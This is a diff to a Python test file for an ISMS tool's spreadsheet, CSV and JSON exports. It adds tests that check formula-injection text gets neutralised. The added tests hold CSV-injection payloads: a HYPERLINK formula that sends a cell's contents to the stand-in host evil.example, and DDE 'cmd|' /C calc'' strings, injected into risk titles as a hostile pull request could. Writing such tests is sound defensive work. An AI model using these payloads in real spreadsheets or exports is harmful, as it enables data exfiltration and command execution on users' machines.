@@ -20,10 +20,16 @@ import yaml
 
 from isms.exports.files import export
 from isms.exports.stamp import Stamp
+from isms.exports.tables import Sheet
+from isms.exports.writers import to_csv, to_json, to_xlsx
 from tests.conftest import AS_OF, Repo
 from tests.support.gitrepo import commit_all, git
 
 STAMP = ["organisation", "version", "commit", "as_of"]
+NOTE = (
+    "text starting with = + - @, tab or carriage return is written with ' before it, so that no spreadsheet"
+    " runs it as a formula"
+)
 
 
 def isms(*args: str) -> subprocess.CompletedProcess[str]:
@@ -53,9 +59,10 @@ def run_export(repo: Repo, kind: str, fmt: str, tmp_path: Path) -> Path:
 def read_csv(path: Path) -> tuple[dict[str, str], list[dict[str, str]]]:
     rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
     stamp = dict((name, value) for name, value in rows[:4])
-    assert rows[4] == []
-    header = rows[5]
-    return stamp, [dict(zip(header, row, strict=True)) for row in rows[6:]]
+    assert rows[4] == ["cells", NOTE]
+    assert rows[5] == []
+    header = rows[6]
+    return stamp, [dict(zip(header, row, strict=True)) for row in rows[7:]]
 
 
 def read_sheet(path: Path, title: str) -> tuple[Any, dict[str, Any], list[dict[str, Any]]]:
@@ -63,8 +70,9 @@ def read_sheet(path: Path, title: str) -> tuple[Any, dict[str, Any], list[dict[s
     sheet = workbook[title]
     values = list(sheet.iter_rows(values_only=True))
     stamp = {row[0]: row[1] for row in values[:4]}
-    header = values[5]
-    return sheet, stamp, [dict(zip(header, row, strict=True)) for row in values[6:]]
+    assert values[4][:2] == ("cells", NOTE)
+    header = values[6]
+    return sheet, stamp, [dict(zip(header, row, strict=True)) for row in values[7:]]
 
 
 def test_risk_register_as_xlsx_csv_and_json_match_the_register(repo: Repo, tmp_path: Path) -> None:
@@ -87,8 +95,8 @@ def test_risk_register_as_xlsx_csv_and_json_match_the_register(repo: Repo, tmp_p
         assert row["inherent impact"] == risk["inherent"]["impact"]
         assert row["inherent score"] == risk["inherent"]["likelihood"] * risk["inherent"]["impact"]
         assert row["treatment"] == risk["treatment"]
-    assert sheet.freeze_panes == "A7"
-    assert sheet.auto_filter.ref == f"A6:W{6 + len(risks)}"
+    assert sheet.freeze_panes == "A8"
+    assert sheet.auto_filter.ref == f"A7:W{7 + len(risks)}"
     assert 10 <= sheet.column_dimensions["B"].width <= 60
 
     stamp_csv, rows_csv = read_csv(run_export(repo, "risks", "csv", tmp_path))
@@ -118,7 +126,7 @@ def test_soa_has_a_clauses_sheet_and_an_annex_a_sheet(repo: Repo, tmp_path: Path
         entry = soa[row["control"]]
         assert row["applicable"] == ("yes" if entry["applicable"] else "no")
         assert row["status"] == (entry.get("status") if entry["applicable"] else None)
-    assert sheet.freeze_panes == "A7"
+    assert sheet.freeze_panes == "A8"
 
     _, rows = read_csv(run_export(repo, "soa", "csv", tmp_path))
     assert [row["control"] for row in rows if row["part"] == "annex_a"][:3] == ["5.1", "5.2", "5.3"]
@@ -173,6 +181,22 @@ def test_exports_carry_the_commit_and_release_tag(repo: Repo, tmp_path: Path) ->
     assert stamp["version"] == "v1.0" and stamp["commit"] == commit
 
 
+@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
+def test_a_control_character_stops_the_export_with_the_checks_message(repo: Repo, tmp_path: Path, fmt: str) -> None:
+    """openpyxl refuses control characters with a traceback: the check must stop them first, in every format."""
+    repo.replace("registers/risks.yml", "title: Laptop lost on a train", 'title: "Laptop\\x01 lost on a train"')
+    out = tmp_path / f"risks.{fmt}"
+    result = isms("export", "risks", "--out", str(out), "--root", str(repo.root), "--as-of", "2026-11-28")
+    assert (result.returncode, result.stdout) == (1, "")
+    assert result.stderr.splitlines() == [
+        "registers/risks.yml:20: error: risks[1].title: the text holds the control character U+0001 at position 7"
+        " — remove it; text may hold tab and line breaks but no other control character (in a double-quoted YAML"
+        " string, escapes such as \\x01 or \\e write one)",
+        "isms: error: the ISMS has 1 error(s); fix them before exporting",
+    ]
+    assert not out.exists()
+
+
 @pytest.mark.parametrize(
     ("args", "message"),
     [
@@ -192,3 +216,100 @@ def test_bad_export_requests_get_a_message(repo: Repo, args: list[str], message:
     assert result.returncode == 2
     assert message in result.stderr
     assert "Traceback" not in result.stderr
+
+
+# --- formula injection (OWASP: CSV injection) ----------------------------------------------------------
+
+PAYLOADS = {
+    "R-1": ('=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'),
+    "R-2": ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    "R-3": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+}
+
+
+def _inject(repo: Repo) -> None:
+    """Risk titles, a threat and the organisation's name written as formulas, as a hostile pull request could."""
+    repo.replace(
+        "registers/risks.yml",
+        "title: Customer data stolen through a weak password",
+        "title: " + '\'=HYPERLINK("https://evil.example/?"&A1,"Click")\'',
+    )
+    repo.replace("registers/risks.yml", "title: Laptop lost on a train", "title: \"+cmd|' /C calc'!A0\"")
+    repo.replace("registers/risks.yml", "title: Hosting outage", "title: \"@SUM(1+1)*cmd|' /C calc'!A0\"")
+    repo.replace("registers/risks.yml", "threat: Loss\n", 'threat: "-1+1"\n')
+    repo.replace("registers/isms.yml", "name: Minimal Ltd", 'name: "=1+1"')
+
+
+def test_text_that_a_spreadsheet_would_run_is_exported_as_text(repo: Repo, tmp_path: Path) -> None:
+    _inject(repo)
+    paths = {}
+    for fmt in ("xlsx", "csv", "json"):
+        paths[fmt] = tmp_path / f"risks.{fmt}"
+        result = isms("export", "risks", "--out", str(paths[fmt]), "--root", str(repo.root), "--as-of", "2026-11-28")
+        assert (result.returncode, result.stderr) == (0, "")
+
+    workbook = openpyxl.load_workbook(paths["xlsx"])
+    sheet = workbook["Risk register"]
+    assert (sheet["B1"].value, sheet["B1"].data_type) == ("'=1+1", "s")
+    assert (sheet["A5"].value, sheet["B5"].value) == ("cells", NOTE)
+    header = [cell.value for cell in sheet[7]]
+    title, threat, likelihood = (
+        header.index("title") + 1,
+        header.index("threat") + 1,
+        header.index("inherent likelihood") + 1,
+    )
+    for row, (written, shown) in enumerate(PAYLOADS.values(), start=8):
+        cell = sheet.cell(row, title)
+        assert (cell.value, cell.data_type) == (shown, "s"), written
+    assert (sheet.cell(9, threat).value, sheet.cell(9, threat).data_type) == ("'-1+1", "s")
+    assert (sheet.cell(9, likelihood).value, sheet.cell(9, likelihood).data_type) == (2, "n")  # numbers stay numbers
+    # No cell of any sheet is a formula.
+    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+
+    text = paths["csv"].read_text(encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == ["organisation", "'=1+1"]
+    assert rows[4] == ["cells", NOTE]
+    _, csv_rows = read_csv_rows(rows)
+    assert [row["title"] for row in csv_rows] == [shown for _, shown in PAYLOADS.values()]
+    assert [row["threat"] for row in csv_rows][1] == "'-1+1"
+    assert [row["inherent likelihood"] for row in csv_rows] == ["3", "2", "2"]
+
+    # JSON keeps the exact data: it is not opened by spreadsheets.
+    data = json.loads(paths["json"].read_text(encoding="utf-8"))
+    assert data["stamp"]["organisation"] == "=1+1"
+    assert [row["title"] for row in data["sheets"]["risks"]] == [written for written, _ in PAYLOADS.values()]
+    assert data["sheets"]["risks"][1]["threat"] == "-1+1"
+
+
+def read_csv_rows(rows: list[list[str]]) -> tuple[list[str], list[dict[str, str]]]:
+    header = rows[6]
+    return header, [dict(zip(header, row, strict=True)) for row in rows[7:]]
+
+
+@pytest.mark.parametrize(
+    ("value", "csv_field", "xlsx_value", "xlsx_type"),
+    [
+        pytest.param("=1+1", "'=1+1", "'=1+1", "s", id="equals"),
+        pytest.param("+1", "'+1", "'+1", "s", id="plus"),
+        pytest.param("-1+1", "'-1+1", "'-1+1", "s", id="minus-text"),
+        pytest.param("@SUM(A1)", "'@SUM(A1)", "'@SUM(A1)", "s", id="at"),
+        pytest.param("\t=1", "'\t=1", "'\t=1", "s", id="tab"),
+        # XML reads a raw carriage return back as a line feed; the quote before it is what counts.
+        pytest.param("\r=1", "'\r=1", "'\n=1", "s", id="carriage-return"),
+        pytest.param("#N/A", "#N/A", "#N/A", "s", id="error-code-text"),
+        pytest.param("a=1", "a=1", "a=1", "s", id="formula-character-inside"),
+        pytest.param(-2, "-2", -2, "n", id="negative-number"),
+        pytest.param(True, "yes", "yes", "s", id="boolean"),
+    ],
+)
+def test_each_cell_is_neutralised_by_its_first_character_only_when_it_is_text(
+    value: str | int | bool, csv_field: str, xlsx_value: str | int, xlsx_type: str
+) -> None:
+    stamp = Stamp("Minimal Ltd", "v1", "abc", AS_OF)
+    sheets = [Sheet("things", "Things", ("name", "value"), [["wide " * 20, value]])]
+    rows = list(csv.reader(io.StringIO(to_csv(stamp, sheets).decode("utf-8"), newline="")))
+    assert rows[7] == ["wide " * 20, csv_field]
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(stamp, sheets)))["Things"]
+    assert (sheet["B8"].value, sheet["B8"].data_type) == (xlsx_value, xlsx_type)
+    assert json.loads(to_json(stamp, sheets))["sheets"]["things"] == [{"name": "wide " * 20, "value": value}]
